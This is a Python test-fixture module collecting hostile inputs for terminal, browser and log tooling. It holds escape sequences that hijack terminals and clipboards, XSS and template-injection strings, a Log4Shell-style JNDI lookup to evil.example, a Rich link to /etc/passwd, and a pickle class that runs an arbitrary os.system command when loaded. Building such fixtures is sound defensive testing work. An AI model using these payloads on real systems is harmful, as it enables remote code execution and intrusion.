"""Here live lines that mean harm to a terminal, a browser, a clock or a reader of lines."""

from __future__ import annotations

import io
import pickle

XID = b"[   12.500000] NVRM: Xid (PCI:0000:61:00): 79, GPU has fallen off the bus."

# Each clears the screen, renames the window, moves the cursor, sets a key or writes to the clipboard of some terminal.
TERMINAL = (
    b"\x1b[2J\x1b[H",
    b"\x1b]0;owned\x07",
    b"\x1b]52;c;ZXZpbA==\x07",
    b"\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    b"\x1bP$q\x1b\\",
    b"\x9b2J",
    b"\x08" * 40,
    "\u202egnp.exe".encode(),
    b"\x1b[",
    b"\x1b]0;never ends",
)
MARKUP = (
    b"<script>alert(1)</script>",
    b'"><img src=x onerror=alert(1)>',
    b"</pre><iframe src=javascript:alert(1)>",
    b"[bold red]not markup[/bold red] [link=file:///etc/passwd]x[/link]",
    b"{{ 7 * 7 }} ${jndi:ldap://evil.example/a} %n%n%s",
)
CLOCKS = (
    b"[Thu Jan  1 00:00:10 2026]",
    b"[Thu Jan  1 00:00:10 1999]",
    b"Feb 29 23:59:59",
    b"2099-12-31 23:59:60.999",
    b"[999999999.999999999]",
    b"[ +999999999.999999999]",
    b"[Jan 1 00:00]",
    b"2026-13-45 99:99:99",
    b"E1231 23:59:59.999999",
    b"E0101 00:00:00.000000",
)


class Killer:
    """An object that runs a command when somebody unpickles it."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self):
        import os

        return os.system, (self._command,)


def pickles(command: str) -> list[bytes]:
    """The same attack in every protocol; the first two are text."""
    return [pickle.dumps(Killer(command), protocol) for protocol in range(6)]


class Endless(io.RawIOBase):
    """So many bytes of one kind, made as they are read."""

    def __init__(self, size: int, piece: bytes = b"z" * 65536) -> None:
        self._left, self._piece = size, piece

    def readable(self) -> bool:
        return True

    def read(self, size: int = -1) -> bytes:
        take = min(self._left, size)
        self._left -= take
        return (self._piece * (take // len(self._piece) + 1))[:take]
